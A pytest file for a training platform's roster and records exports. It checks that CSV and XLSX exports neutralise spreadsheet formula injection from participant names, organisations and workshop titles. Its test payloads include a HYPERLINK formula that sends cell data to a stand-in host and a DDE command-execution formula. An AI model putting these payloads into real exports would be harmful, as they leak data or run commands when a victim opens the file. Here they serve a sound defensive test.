"""Roster exports with every formula payload of RELIABILITY §G (G1-G4).

The records export is covered by tests/records/test_admin.py::test_csv_export_is_safe_and_
round_trips and ::test_xlsx_export_is_safe (names and organisations); the roster exports had
one payload in tests/workshops/test_closing.py::test_roster_exports_neutralise_formulas.
"""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from learning.accounts.models import User
from learning.completion.issuing import issue_for_module
from learning.db import utcnow
from learning.progress.models import Enrolment
from learning.workshops import services
from tests import factories
from tests.conftest import AuthActions
from tests.workshops.conftest import CATALOGUE, details

PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    '=HYPERLINK("http://evil.example/?x="&A1,"x")',
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    'a,b"c\nd',
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\x00")


def _expected(value: str) -> str:
    return "'" + value if value.startswith(TRIGGERS) else value


@pytest.fixture
def exported(app, db):
    """W1 (title a formula) with one participant per payload, in name and organisation; W2
    with a participant of its own who must not appear in W1's roster."""
    trainer = factories.user(db, email="trainer@example.org", role="trainer")
    workshop = services.create(db, trainer, details(title="=1+1 training"), CATALOGUE)
    services.open_workshop(db, workshop)
    for n, payload in enumerate(PAYLOADS):
        organisation = factories.organisation(db, name=payload + f" {n}")
        person = factories.user(
            db, email=f"p{n}@example.org", display_name=payload, organisation=organisation
        )
        services.join(db, workshop, person, CATALOGUE)
    other = services.create(db, factories.user(db, role="trainer"), details(), CATALOGUE)
    services.open_workshop(db, other)
    services.join(
        db,
        other,
        factories.user(db, email="elsewhere@example.org", display_name="Elsewhere Person"),
        CATALOGUE,
    )
    db.commit()
    client = app.test_client()
    AuthActions(client).login(email="trainer@example.org")
    return client, workshop.id


def test_roster_csv_neutralises_every_trigger_and_round_trips(exported):
    client, workshop_id = exported
    response = client.get(f"/workshops/{workshop_id}/roster.csv")
    assert response.status_code == 200
    assert response.content_type == "text/csv; charset=utf-8"
    disposition = response.headers["Content-Disposition"]
    assert disposition == f'attachment; filename="{disposition.split(chr(34))[1]}"'
    assert disposition.split('"')[1].startswith(f"workshop-{workshop_id}-")
    raw = response.data.decode("utf-8")
    assert raw.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(raw[1:], newline="")))
    assert len(rows) == 1 + len(PAYLOADS), "one row per participant, nobody else's"
    assert {len(row) for row in rows} == {len(rows[0])}
    for row in rows[1:]:
        assert not any(cell.startswith(TRIGGERS) for cell in row), row
    assert sorted(row[0] for row in rows[1:]) == sorted(_expected(p) for p in PAYLOADS)
    assert sorted(row[2] for row in rows[1:]) == sorted(
        _expected(f"{p} {n}") for n, p in enumerate(PAYLOADS)
    )
    assert "Elsewhere Person" not in raw and "elsewhere@example.org" not in raw


def test_roster_xlsx_keeps_every_trigger_as_typed_text(exported):
    client, workshop_id = exported
    response = client.get(f"/workshops/{workshop_id}/roster.xlsx")
    assert response.headers["Content-Disposition"].startswith("attachment; filename=")
    sheet = load_workbook(io.BytesIO(response.data)).active
    names = [sheet.cell(row=n + 2, column=1).value for n in range(len(PAYLOADS))]
    assert sorted(names) == sorted(PAYLOADS), "inline strings: the names exactly as typed"
    assert sheet.max_row == 1 + len(PAYLOADS)


def test_a_workshop_title_formula_is_neutralised_in_the_records_export(app, db, exported):
    """Records earned in a workshop carry its title into the administrators' export."""
    person = db.scalar(select(User).where(User.email == "p0@example.org"))
    enrolment = db.scalar(select(Enrolment).where(Enrolment.user_id == person.id))
    enrolment.completed_at = utcnow()
    issue_for_module(db, enrolment, CATALOGUE.module("sample-module"), CATALOGUE)
    db.commit()
    admin = app.test_client()
    AuthActions(admin).login(email="admin@example.org")
    rows = list(csv.DictReader(io.StringIO(admin.get("/admin/records/export.csv").text[1:])))
    module_rows = [row for row in rows if row["kind"] == "module"]
    assert [row["workshop"].split(",")[0] for row in module_rows] == ["'=1+1 training"]
